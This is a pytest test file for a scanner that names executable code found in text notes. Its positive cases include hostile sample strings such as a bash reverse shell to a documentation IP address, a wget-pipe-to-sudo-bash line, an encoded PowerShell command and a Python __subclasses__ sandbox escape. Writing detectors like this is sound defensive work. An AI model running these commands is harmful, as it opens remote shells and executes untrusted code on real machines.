"""Notes that are code: what reaches the system is named, what people write about it is not."""

from __future__ import annotations

import pytest

from assay.scan.snippet import code_in


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("__import__('os').system('id')", "Python that calls os.system"),
        ("import os as o\no.popen('id')", "Python that calls os.popen"),
        ("from subprocess import run as r\nr(['id'])", "Python that calls subprocess.run"),
        ("exec(payload)", "Python that calls exec"),
        ("().__class__.__bases__[0].__subclasses__()", "Python that reaches for __subclasses__"),
        ("wget -q http://example.org/a.sh | sudo bash", "a shell line that runs what it downloads"),
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "a shell line that connects to another machine"),
        ("powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A", "a PowerShell line with an encoded command"),
        ("<script src=x></script>", "a script for a web page"),
        ("data:text/html;base64,PGI+", "active web content"),
    ],
)
def test_code_is_named(text: str, what: str) -> None:
    """By what it calls."""
    assert code_in(text) == what


@pytest.mark.parametrize(
    "text",
    [
        "pt", "", "do not call os.system() on it", "bitsandbytes.optim.AdamW8bit(weight_decay=0.1)",
        '{"lr": 0.1, "steps": [1, 2]}', "import this", "data:image/jpeg;base64,/9j/4AAQ", "https://example.org/model",
        "(" * 5000, "Trained with torch (2.1) on 8 GPUs; see README (section 3)", "print('hello')",
    ],
)  # fmt: skip
def test_notes_are_not(text: str) -> None:
    """Settings, prose, links and thumbnails."""
    assert code_in(text) == ""
